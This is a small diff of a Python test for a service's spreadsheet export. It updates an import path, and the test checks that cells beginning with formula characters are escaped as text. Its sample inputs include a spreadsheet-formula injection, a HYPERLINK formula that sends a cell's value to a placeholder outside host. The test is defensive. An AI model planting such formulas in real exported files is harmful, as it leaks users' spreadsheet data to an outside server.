@@ -94,7 +94,7 @@ def test_an_unknown_format_is_not_acceptable_and_exports_nothing(billing, charge
 
 def test_text_that_would_be_a_formula_is_exported_as_text(billing, charges):
     """A spreadsheet program runs a cell starting with = + - @ as a formula."""
-    from apps.meter_service import exports
+    from apps.meter_service.core import exports
 
     attacks = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-1+1", "@SUM(A1)", "\t=1"]
     assert [exports.spreadsheet_text(a) for a in attacks] == ["'" + a for a in attacks]
